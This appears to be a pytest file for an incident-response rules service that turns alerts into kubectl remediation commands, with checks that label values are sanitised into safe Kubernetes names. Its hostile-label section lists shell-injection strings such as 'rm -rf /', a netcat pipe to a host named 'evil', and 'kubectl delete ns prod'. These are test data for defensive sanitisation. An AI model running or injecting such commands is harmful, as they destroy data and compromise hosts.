"""services/rules.py: keyword rules, workload targeting and shell-safe Kubernetes names."""

from __future__ import annotations

import re

import pytest

from services.ports import IncidentFacts
from services.rules import DEFAULT_RULE, k8s_name, match_rule, propose, workload_of

DANGEROUS = (";", "&", "|", "$", "(", ")", "`", ">", "<", "\n", "\r", "'", '"', "\\", " /")


def facts(
    alertname: str,
    labels: dict[str, str] | None = None,
    *,
    summary: str = "",
    description: str = "",
    namespace: str = "",
) -> IncidentFacts:
    annotations = {}
    if summary:
        annotations["summary"] = summary
    if description:
        annotations["description"] = description
    return IncidentFacts(
        incident_id=1,
        alertname=alertname,
        severity="critical",
        service="",
        namespace=namespace,
        labels={"alertname": alertname, **(labels or {})},
        annotations=annotations,
    )


def assert_safe(command: str) -> None:
    for bad in DANGEROUS:
        assert bad not in command, f"{bad!r} in {command!r}"
    assert "\n" not in command


# --- categories -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("alertname", "category", "verb"),
    [
        ("KubePodCrashLooping", "crash", "rollout restart"),
        ("OOMKilled", "crash", "rollout restart"),
        ("HighErrorRate", "error_rate", "rollout undo"),
        ("HighLatencyP99", "latency", "scale"),
        ("NodeMemoryPressure", "resource_exhaustion", "scale"),
        ("CPUThrottlingHigh", "resource_exhaustion", "scale"),
        ("DiskFull", "storage", "rollout restart"),
        ("Watchdog", "unknown", "rollout restart"),
    ],
)
def test_rules_alertname_maps_to_category(alertname: str, category: str, verb: str) -> None:
    draft = propose(facts(alertname, {"deployment": "api"}, namespace="shop"))
    assert draft.category == category
    assert draft.command.startswith(f"kubectl -n shop {verb} deployment/api")
    if verb == "scale":
        assert draft.command == "kubectl -n shop scale deployment/api --replicas=3"
        assert "3 replicas" in draft.reasoning


@pytest.mark.parametrize(
    ("summary", "category"),
    [
        ("Container keeps restarting", "crash"),
        ("5xx responses above threshold", "error_rate"),
        ("p95 response time is high", "latency"),
        ("CPU usage saturated", "resource_exhaustion"),
        ("Filesystem almost full", "storage"),
    ],
)
def test_rules_summary_maps_to_category(summary: str, category: str) -> None:
    assert match_rule(facts("Custom", summary=summary)).category == category


def test_rules_description_is_searched_too() -> None:
    assert match_rule(facts("Custom", description="the pod was oomkilled")).category == "crash"


def test_rules_unknown_alert_gets_default_restart() -> None:
    rule = match_rule(facts("SomethingOdd", summary="no keyword here"))
    assert rule is DEFAULT_RULE
    draft = propose(facts("SomethingOdd", {"deployment": "api"}))
    assert draft.command == "kubectl -n default rollout restart deployment/api"
    assert "No rule matched" in draft.reasoning


def test_rules_exact_commands() -> None:
    labels = {"deployment": "checkout", "namespace": "shop"}
    assert propose(facts("KubePodCrashLooping", labels)).command == "kubectl -n shop rollout restart deployment/checkout"
    assert propose(facts("HighErrorRate", labels)).command == "kubectl -n shop rollout undo deployment/checkout"
    assert propose(facts("HighLatencyP99", labels)).command == "kubectl -n shop scale deployment/checkout --replicas=3"


# --- workload targeting -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("labels", "target"),
    [
        ({"deployment": "d", "statefulset": "s", "daemonset": "ds", "service": "svc", "app": "a"}, ("deployment", "d")),
        ({"statefulset": "s", "daemonset": "ds", "service": "svc", "app": "a"}, ("statefulset", "s")),
        ({"daemonset": "ds", "service": "svc", "app": "a"}, ("daemonset", "ds")),
        ({"service": "svc", "app": "a"}, ("deployment", "svc")),
        ({"app": "a"}, ("deployment", "a")),
        ({"deployment": "", "app": "a"}, ("deployment", "a")),
        ({"instance": "db-1"}, None),
    ],
)
def test_rules_workload_label_precedence(labels: dict[str, str], target: tuple[str, str] | None) -> None:
    assert workload_of(labels) == target


def test_rules_statefulset_target_in_command() -> None:
    draft = propose(facts("KubePodCrashLooping", {"statefulset": "db", "app": "x"}))
    assert draft.command == "kubectl -n default rollout restart statefulset/db"


def test_rules_pod_only_labels_delete_the_pod() -> None:
    draft = propose(facts("KubePodCrashLooping", {"pod": "api-7d9f-abcde", "namespace": "shop"}))
    assert draft.command == "kubectl -n shop delete pod/api-7d9f-abcde"
    assert "no workload label" in draft.reasoning
    assert "pod/api-7d9f-abcde" in draft.root_cause


def test_rules_pod_is_ignored_when_a_workload_is_known() -> None:
    draft = propose(facts("KubePodCrashLooping", {"pod": "api-1", "deployment": "api"}))
    assert draft.command == "kubectl -n default rollout restart deployment/api"


def test_rules_no_labels_guesses_deployment_from_alertname() -> None:
    draft = propose(facts("DiskFull"))
    assert draft.command == "kubectl -n default rollout restart deployment/diskfull"
    assert "guess" in draft.reasoning


def test_rules_namespace_defaults_to_default() -> None:
    assert propose(facts("HighErrorRate", {"deployment": "api"})).command.startswith("kubectl -n default ")


def test_rules_namespace_from_facts_beats_label() -> None:
    draft = propose(facts("HighErrorRate", {"deployment": "api", "namespace": "label-ns"}, namespace="facts-ns"))
    assert draft.command.startswith("kubectl -n facts-ns ")


def test_rules_namespace_from_label_when_facts_blank() -> None:
    draft = propose(facts("HighErrorRate", {"deployment": "api", "namespace": "label-ns"}))
    assert draft.command.startswith("kubectl -n label-ns ")


# --- hostile label values -----------------------------------------------------------------------

HOSTILE = [
    "x; rm -rf / && $(reboot)",
    "`id` | nc evil 1337",
    "api\nkubectl delete ns prod",
    "API-Server",
    "a > /etc/passwd < b",
    "'quoted' \"double\" \\back",
    "$HOME && echo ${PATH}",
    "-n kube-system --all",
    "x" * 500,
    ";;;&&&|||",
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("label", ["deployment", "statefulset", "service", "app", "pod", "namespace"])
def test_rules_k8s_name_neutralises_hostile_labels(label: str, value: str) -> None:
    draft = propose(facts("KubePodCrashLooping", {label: value}))
    assert_safe(draft.command)
    assert_safe(draft.root_cause)
    # every token after "kubectl" is a plain name, option or kind/name
    for token in draft.command.split(" ")[1:]:
        assert re.fullmatch(r"[a-z0-9./=-]+", token), token
    (target,) = [t for t in draft.command.split(" ") if "/" in t]
    namespace = draft.command.split(" ")[2]
    assert len(target.split("/", 1)[1]) <= 63
    assert len(namespace) <= 63


@pytest.mark.parametrize("value", HOSTILE)
def test_rules_k8s_name_output_is_a_plain_short_name(value: str) -> None:
    name = k8s_name(value)
    assert 1 <= len(name) <= 63
    assert re.fullmatch(r"[a-z0-9.-]+", name)
    assert not name.startswith(("-", "."))


def test_rules_k8s_name_examples() -> None:
    assert k8s_name("x; rm -rf / && $(reboot)") == "x-rm--rf-reboot"
    assert k8s_name("API-Server") == "api-server"
    assert k8s_name("") == "unknown"
    assert k8s_name(";;;") == "unknown"
    assert k8s_name("x" * 500) == "x" * 63


def test_rules_hostile_namespace_via_facts() -> None:
    draft = propose(facts("DiskFull", {"deployment": "db"}, namespace="prod; kubectl delete ns prod"))
    assert_safe(draft.command)
    assert draft.command == "kubectl -n prod-kubectl-delete-ns-prod rollout restart deployment/db"


def test_rules_hostile_alertname_as_guessed_target() -> None:
    draft = propose(facts("Boom$(reboot)`id`"))
    assert_safe(draft.command)
    assert draft.command == "kubectl -n default rollout restart deployment/boom-reboot-id"


def test_rules_k8s_name_truncation_keeps_a_valid_name() -> None:
    name = k8s_name("a" * 62 + "-tail")
    assert re.fullmatch(r"[a-z0-9]([a-z0-9.-]*[a-z0-9])?", name), name


# --- provenance -------------------------------------------------------------------------------


@pytest.mark.parametrize("alertname", ["KubePodCrashLooping", "HighErrorRate", "DiskFull", "Watchdog"])
def test_rules_proposal_source_is_rules_without_confidence(alertname: str) -> None:
    draft = propose(facts(alertname, {"deployment": "api"}))
    assert draft.source == "rules"
    assert draft.confidence is None
    assert draft.model is None
    assert draft.risk in ("low", "medium")
    assert draft.root_cause and draft.reasoning
